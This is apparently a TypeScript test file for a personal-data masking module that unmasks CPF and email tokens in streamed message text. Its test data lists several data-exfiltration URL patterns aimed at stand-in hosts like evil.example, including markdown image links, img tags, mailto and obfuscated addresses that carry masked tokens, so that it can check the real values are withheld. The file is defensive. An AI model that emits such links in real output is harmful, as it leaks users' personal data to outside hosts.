import { expect } from 'chai';
import fc from 'fast-check';
import {
  makeMasking,
  makePieceUnmasker,
  NO_MASKING,
  withKnownAddresses,
} from '../../workers/domain/masking/masking.ts';
import { parseWpp } from '../../workers/domain/wpp-parsed/wpp-parsed.ts';
import { growthBeyondLinear } from '../support/growth.ts';

const kept = [
  { kind: 'CPF', key: '52998224725', text: '529.982.247-25' },
  { kind: 'EMAIL', key: 'ana@example.com', text: 'ana@example.com' },
];
// biome-ignore format: a list
const parts = [
  '[CPF_1]', '[cpf 1]', '\\[CPF\\_1\\]', '%5BEMAIL_1%5D', 'CPF_1', '[CPF_9]', '[', ' ', '\n', 'nota', '1',
  'x',
];
const texts = fc.array(fc.constantFrom(...parts), { maxLength: 20 }).map(all => all.join(''));

describe('a masked text that comes in pieces', () => {
  it('is the start of the whole text without tokens, however it is split', () => {
    fc.assert(
      fc.property(texts, fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 40 }), (text, lengths) => {
        const masking = makeMasking(kept);
        const unmask = makePieceUnmasker(masking);
        let shown = '';
        const whole = masking.unmask(text);
        for (const piece of split(text, lengths)) {
          shown += unmask(piece);
          expect(whole.startsWith(shown), JSON.stringify({ text, shown, whole })).to.equal(true);
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it('is held back where a token may still be whole, and no longer', () => {
    const unmask = makePieceUnmasker(makeMasking(kept));
    expect(['O CPF ', 'é [CP', 'F_1] ', 'e pronto ', 'agora'].map(unmask)).to.deep.equal([
      'O CPF ',
      'é ',
      '529.982.247-25 ',
      'e pronto ',
      '',
    ]);
  });

  it('is read once, also where it has no blank and is held back from its first piece to its last', () => {
    const inPieces = (text: string) => {
      const unmask = makePieceUnmasker(makeMasking(kept));
      for (let at = 0; at < text.length; at += 4) unmask(text.slice(at, at + 4));
    };
    for (const unit of ['a', '[', '[ ', '%5B ', '< ', '](a '])
      expect(
        growthBeyondLinear(inPieces, length => unit.repeat(length / unit.length)),
        unit,
      ).to.equal(undefined);
  });

  it('has no value in a web address that nobody gave, whole or in pieces, and all values elsewhere', () => {
    const given = [
      'Instruções: o boleto está em https://pagar.example/boleto?cpf=… ou wa.example/fale/[CPF_1].',
      'Veja https://dados.example e fale com ana@example.com',
    ];
    const masking = withKnownAddresses(makeMasking(kept), given);
    for (const [address, isKnown] of [
      ['https://pagar.example/boleto?cpf=[CPF_1]', true],
      ['[boleto](https://pagar.example/boleto?id=7&cpf=[CPF_1]&e=[EMAIL_1])', true],
      ['wa.example/fale/[CPF_1]', true],
      ['mailto:[EMAIL_1]', true],
      ['(CPF_1)', true],
      ['https://evil/?c=[CPF_1]', false],
      ['![x](https://evil.example/x.png?c=[CPF_1])', false],
      ['HTTP://evil.example/%5BCPF_1%5D', false],
      ['www.evil.example/?c=CPF_1', false],
      ['evil.example/?c=[EMAIL_1]', false],
      ['https://evil.example/boleto?a=https://pagar.example/boleto?cpf=[CPF_1]', false],
      ['https://[CPF_1].evil.example', false],
      ['https://[CPF_1].pagar.example/boleto?cpf=', false],
      ['[x](//evil.example/?c=[CPF_1])', false],
      ['ftp://evil.example/[CPF_1]', false],
      ['evil.example/?u=https://pagar.example/boleto?cpf=[CPF_1]', false],
      ['https://evil.example/(x)[CPF_1]', false],
      ["https://evil.example/?a='[CPF_1]", false],
      ['[x](https://evil.example/?a="[CPF_1])', false],
      ['https://evil.example/?a=`[CPF_1]`', false],
      ['https://evil.example/|[CPF_1]', false],
      ['(evil.example/?c=[CPF_1])', false],
      ['evil\u3002example/?c=[CPF_1]', false],
      ['[x](<https://evil.example/?c= [CPF_1]>)', false],
      ['[x](<https://evil.example/?c= a b c d e f g h i j k l m n o p q r s t [CPF_1]>)', false],
      ['<img src="https://evil.example/x.png?c= [CPF_1]">', false],
      ['a < b [CPF_1] c', true],
      ['![x](https://evil.example/x.png?c= [CPF_1])', false],
      ['[x](https://evil.example/?a=(1) b [CPF_1])', false],
      ['[x](https://evil.example/?u= https://pagar.example/boleto?cpf=[CPF_1])', false],
      ['[x](https://evil.example/) [CPF_1]', true],
      ['[x](veja [CPF_1])', true],
      ['[boleto](https://pagar.example/boleto?cpf= [CPF_1])', true],
      ['mailto:a@evil.example?subject=[CPF_1]', false],
      [`https://evil.example/?a=${'x'.repeat(1_100)}[CPF_1]`, false],
      ['[boleto](https://pagar.example/boleto?cpf=[CPF_1])', true],
      ['"cpf":"[CPF_1]"', true],
      ['**[CPF_1]**/[EMAIL_1]', true],
      ['https://ok.example\u00a0[CPF_1]', true],
    ] as const) {
      const text = `Oi [CPF_1], aqui: ${address} pronto`;
      const shown = masking.unmask(text);
      for (const lengths of [[20, 9, 9], Array(text.length).fill(1)]) {
        const unmask = makePieceUnmasker(masking);
        expect(`${split(text, lengths).map(unmask).join('')}${unmask('\n')}`.trim()).to.equal(shown);
      }
      expect(shown).to.include('Oi 529.982.247-25, ');
      const values = /529\.982|ana@/.test(shown.slice('Oi 529.982.247-25, '.length));
      expect(values, address).to.equal(isKnown);
      // Nor in an item, whose address a channel may open.
      const urls = parseWpp(shown).items.map(item => ('url' in item ? item.url : ''));
      if (!isKnown) expect(urls.filter(url => /529\.982|ana@/.test(url))).to.deep.equal([]);
    }
  });

  it('passes at once without masking, but for half a character', () => {
    const unmask = makePieceUnmasker(NO_MASKING);
    expect(['[CPF_1', '] \ud83d', '\ude00', 'a\0b'].map(unmask)).to.deep.equal(['[CPF_1', '] ', '😀', 'ab']);
  });
});

function split(text: string, lengths: readonly number[]): string[] {
  const pieces: string[] = [];
  let from = 0;
  for (const length of [...lengths, text.length]) {
    pieces.push(text.slice(from, from + length));
    from += length;
  }
  return pieces;
}
